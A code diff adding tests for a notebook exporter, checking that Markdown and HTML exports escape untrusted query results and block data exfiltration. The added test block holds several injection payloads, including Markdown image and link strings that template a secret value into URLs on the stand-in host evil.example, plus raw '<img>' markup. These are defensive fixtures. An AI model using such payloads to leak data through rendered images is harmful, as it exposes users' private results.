@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import MarkdownIt from 'markdown-it';
 import { readFile } from 'node:fs/promises';
 import { cellValues, withValues } from '../../../../client/src/notebook/cellValues.ts';
 import {
@@ -112,9 +113,60 @@ describe('an exported notebook', () => {
   it('is Markdown with queries and tables', () => {
     assert.equal(
       exportMarkdown(cells),
-      '# Hi <script>\n\n<b>&\n\n### total\n\n````hogql\nselect 1 -- ```\n````\n\n' +
+      '# Hi <script>\n\n\\<b\\>\\&\n\n### total\n\n````hogql\nselect 1 -- ```\n````\n\n' +
         '| name |\n| --- |\n| \\<b\\>\\& |\n\n*1 row · 1.2 s · 2026-01-02 03:04 UTC · here · example.com*\n',
     );
+  });
+
+  describe('whose data would like to be more than text', () => {
+    const hostile = '![x](https://evil.example/a.png) <img src=x> https://evil.example';
+    const secret = resultWith(['total String', 'hostile String'], [['4711', hostile]]);
+    const exported = (value: string): readonly ExportedCell[] => [
+      { kind: 'markdown', title: '', value, results: [] },
+      { kind: 'query', title: 's', value: '', results: [{ result: secret }] },
+    ];
+    const words = (page: string): string => page.slice(0, page.indexOf('<div class="table">'));
+
+    it('shows values as text', () => {
+      const page = words(exportHtml('A', exported('Of **{{ s.total }}**: {{ s.hostile }}')));
+      assert.match(page, /Of <strong>4711<\/strong>: !\[x\]\(https/);
+      assert.doesNotMatch(page, /<img|<a /);
+      const text = exportMarkdown(exported('{{ s.hostile }}'));
+      const shown = new MarkdownIt().renderInline(text.split('\n')[0] ?? '');
+      assert.doesNotMatch(shown, /<img|<a /);
+    });
+
+    const addresses = [
+      '![](https://evil.example/?t={{ s.total }})',
+      '![](https://evil.example/?t={{s.total}})',
+      '![](<https://evil.example/?t= {{ s.total }}>)',
+      '[x](https://evil.example/?t={{s.total}})',
+      'https://evil.example/?t={{s.total}}',
+      '<https://evil.example/?t={{s.total}}>',
+      '![][x]\n\n[x]: https://evil.example/?t={{s.total}}',
+      '![](\nhttps://evil.example/?t={{s.total}})',
+    ];
+    for (const value of addresses) {
+      it(`puts none into an address: ${JSON.stringify(value)}`, () => {
+        const page = words(exportHtml('A', exported(value)));
+        for (const [, address = ''] of page.matchAll(/(?:src|href)="([^"]*)"/g)) {
+          assert.doesNotMatch(address, /4711/);
+        }
+        assert.doesNotMatch(page, /<img/);
+        const [text = ''] = exportMarkdown(exported(value)).split('### s');
+        assert.doesNotMatch(text, /4711/);
+      });
+    }
+
+    it('loads no image of another place, and shows one that it contains', () => {
+      const page = exportHtml('A', exported('![a cat](https://evil.example/cat.png)'));
+      assert.match(page, /<a href="https:\/\/evil\.example\/cat\.png">a cat<\/a>/);
+      assert.match(page, /img-src data:"/);
+      assert.match(
+        exportHtml('A', exported('![dot](data:image/gif;base64,R0lGOD)')),
+        /<img src="data:image\/gif;base64,R0lGOD" alt="dot">/,
+      );
+    });
   });
 
   it('is a page in which results are never markup, and nothing runs', () => {
